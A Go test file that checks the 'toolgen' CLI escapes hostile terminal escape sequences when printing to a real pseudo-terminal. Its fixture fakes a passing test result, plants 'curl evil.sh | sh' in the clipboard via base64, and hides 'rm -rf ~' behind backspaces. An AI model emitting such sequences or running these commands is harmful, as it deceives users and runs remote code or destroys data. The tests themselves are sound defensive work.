package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"
)

// openPTY opens a pseudo-terminal pair with golang.org/x/sys/unix: the
// master, read by the test, and the terminal end, given to toolgen as its
// stdout. Output post-processing is off, so the bytes read are the bytes
// written (no \n to \r\n).
func openPTY(t *testing.T) (master, term *os.File) {
	t.Helper()
	m, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY|syscall.O_CLOEXEC, 0)
	if err != nil {
		t.Skipf("no pseudo-terminals here: %v", err)
	}
	t.Cleanup(func() { m.Close() })
	fd := int(m.Fd())
	require.NoError(t, unix.IoctlSetPointerInt(fd, unix.TIOCSPTLCK, 0))
	n, err := unix.IoctlGetInt(fd, unix.TIOCGPTN)
	require.NoError(t, err)
	s, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|syscall.O_NOCTTY|syscall.O_CLOEXEC, 0)
	require.NoError(t, err)
	t.Cleanup(func() { s.Close() })
	tio, err := unix.IoctlGetTermios(int(s.Fd()), unix.TCGETS)
	require.NoError(t, err)
	tio.Oflag &^= unix.OPOST
	require.NoError(t, unix.IoctlSetTermios(int(s.Fd()), unix.TCSETS, tio))
	return m, s
}

// onTerminal runs toolgen ARGS in dir with its stdout on a fresh
// pseudo-terminal and returns what the terminal received and the exit code.
func onTerminal(t *testing.T, bin, dir string, args ...string) (string, int) {
	t.Helper()
	master, term := openPTY(t)
	cmd := exec.Command(bin, args...)
	cmd.Dir = dir
	cmd.Stdout = term
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	require.NoError(t, cmd.Start())
	term.Close() // the child holds it; the master reads EIO once it exits
	var out bytes.Buffer
	done := make(chan error, 1)
	go func() {
		_, err := io.Copy(&out, master)
		done <- err
	}()
	werr := cmd.Wait()
	select {
	case err := <-done:
		if err != nil && !errors.Is(err, syscall.EIO) {
			t.Fatalf("reading the terminal: %v", err)
		}
	case <-time.After(20 * time.Second):
		t.Fatal("the terminal did not close")
	}
	code := 0
	var ee *exec.ExitError
	if errors.As(werr, &ee) {
		code = ee.ExitCode()
	} else {
		require.NoError(t, werr)
	}
	if t.Failed() {
		t.Logf("stderr: %s", stderr.String())
	}
	return out.String(), code
}

// hostileOutput is a file in the repository written to drive a terminal:
// clear it, fake a green "all tests passed", set the clipboard (OSC 52),
// set the title, use the 8-bit CSI, ring the bell, back over a command and
// overwrite a line with CR, and reorder text with a bidi override.
const hostileOutput = "\x1b[2J\x1b[H\x1b[32mall tests passed\x1b[0m\n" +
	"\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;title\x1b\\\u009b31mred\a\n" +
	"rm -rf ~\b\b\b\b\b\b\b\bls      \rFAIL\tx \u202eevil\n"

// hostileBytes are the bytes of hostileOutput that may never reach a
// terminal unescaped.
var hostileBytes = []string{"\x1b", "\a", "\b", "\r", "\u009b", "\u202e"}

// TestTerminalOutput: toolgen call, with a real pseudo-terminal as stdout,
// shows a tool's hostile output escaped (newlines and tabs kept) and with
// --raw byte for byte; list, explain and schema escape descriptor text the
// same way, and schema's JSON stays the same JSON.
func TestTerminalOutput(t *testing.T) {
	bin, err := exec.LookPath("toolgen")
	if err != nil {
		bin = builtToolgen(t)
	}
	ws := t.TempDir()
	writeTestFile(t, filepath.Join(ws, "evil.txt"), hostileOutput)
	// The tools directory's name is text explain and check print.
	tools := filepath.Join(t.TempDir(), "to\x1b]0;title\x07ols\u202e")
	require.NoError(t, os.Mkdir(tools, 0o755))
	writeTestFile(t, filepath.Join(tools, "show.tool.json"), `{"name": "show", "description": "Show a file \u001b[31mred\u009b1m", "command": "cat {file}",
  "arguments": {"file": {"type": "path", "description": "The file \u001b]52;c;eA==\u0007", "required": true}}}`)
	base := []string{"--tools", tools, "--workspace", ws, "--no-builtins"}

	t.Run("call", func(t *testing.T) {
		out, code := onTerminal(t, bin, ws, append(append([]string{"call"}, base...), "show", `{"file":"evil.txt"}`)...)
		require.Equal(t, 0, code, "%q", out)
		for _, b := range hostileBytes {
			assert.NotContains(t, out, b)
		}
		assert.Contains(t, out, `\u001b[2J\u001b[H\u001b[32mall tests passed\u001b[0m`+"\n")
		assert.Contains(t, out, `\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007`)
		assert.Contains(t, out, `\u009b31mred\u0007`+"\n")
		assert.Contains(t, out, `rm -rf ~\u0008`)
		assert.Contains(t, out, `\u000dFAIL`+"\tx "+`\u202eevil`+"\n")
		assert.True(t, strings.HasPrefix(out, "exit: 0\noutput: "), "%q", out)
	})
	t.Run("call-raw", func(t *testing.T) {
		out, code := onTerminal(t, bin, ws, append(append([]string{"call", "--raw"}, base...), "show", `{"file":"evil.txt"}`)...)
		require.Equal(t, 0, code, "%q", out)
		assert.Equal(t, "exit: 0\noutput: "+strings.TrimRight(hostileOutput, "\n")+"\n", out)
	})
	t.Run("call-pipe", func(t *testing.T) {
		// Not a terminal: the bytes as they are, as before.
		cmd := exec.Command(bin, append(append([]string{"call"}, base...), "show", `{"file":"evil.txt"}`)...)
		cmd.Dir = ws
		out, err := cmd.Output()
		require.NoError(t, err)
		assert.Equal(t, "exit: 0\noutput: "+strings.TrimRight(hostileOutput, "\n")+"\n", string(out))
	})
	for name, args := range map[string][]string{
		"list":      {"list"},
		"explain":   {"explain", "show", `{"file":"evil.txt"}`},
		"schema":    {"schema"},
		"list-json": {"list", "--json"},
	} {
		t.Run(name, func(t *testing.T) {
			all := append(append([]string{args[0]}, base...), args[1:]...)
			out, code := onTerminal(t, bin, ws, all...)
			for _, b := range hostileBytes {
				assert.NotContains(t, out, b)
			}
			require.Equal(t, 0, code, "%q", out)
			if name == "explain" {
				assert.Contains(t, out, `to\u001b]0;title\u0007ols\u202e/show.tool.json`)
				return
			}
			assert.Contains(t, out, "Show a file ")
			if args[0] == "schema" || len(args) > 1 && args[1] == "--json" {
				var v any
				require.NoError(t, json.Unmarshal([]byte(out), &v), "%s", out)
				assert.Contains(t, fmt.Sprint(v), "Show a file \x1b[31mred\u009b1m", "the same JSON value")
			}
		})
	}
}
